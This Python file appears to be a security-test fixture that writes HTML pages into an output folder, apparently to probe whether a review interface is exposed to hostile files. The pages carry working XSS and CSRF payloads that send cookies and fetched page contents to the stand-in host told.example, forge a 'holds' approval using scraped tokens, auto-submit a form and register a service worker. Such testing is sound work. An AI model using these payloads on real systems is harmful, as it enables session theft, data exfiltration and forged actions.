"""Acts as the reviewer who looks at it."""
from planted import HOST, OUTPUT, token, write_scores

write_scores()
T = token()
SCRIPT = f'''
const tell = text => fetch("http://told.example/{T}", {{ method: "POST", mode: "no-cors", body: text }})
tell(document.cookie)
for (const path of ["/", "/api/holds", "/site"]) fetch(path).then(a => a.text()).then(tell)
fetch("/").then(a => a.text()).then(html => {{
  const hold = /\\/holds\\/([a-z2-7]{{8}})/.exec(html)?.[1]
  return fetch("/holds/" + hold).then(a => a.text()).then(page => {{
    const field = name => new RegExp('name="' + name + '" value="([^"]*)"').exec(page)?.[1]
    const body = new URLSearchParams({{ csrf: field("csrf"), digest: field("digest"), artefacts: "logs" }})
    return fetch("/holds/" + hold + "/approve", {{ method: "POST", body }})
  }})
}})
'''
FORM = f'<form id=f method=post action="/holds/x/approve"><input name=artefacts value=output></form><script>f.submit()</script>'
PAGES = {
    'detailed_results.html': f'<script>{SCRIPT}</script><img src="http://seen.example/{T}">',
    'form.html': FORM + f'<img src="http://seen.example/{T}">',
    'frame.html': f'<iframe src="{HOST["deskUrl"]}/"></iframe><script>{SCRIPT}</script>',
    'worker.html': f'<script>navigator.serviceWorker.register("/api/holds")</script><script>{SCRIPT}</script>',
}
for name, page in PAGES.items():
    with open(f'{OUTPUT}/{name}', 'w') as file:
        file.write(page)
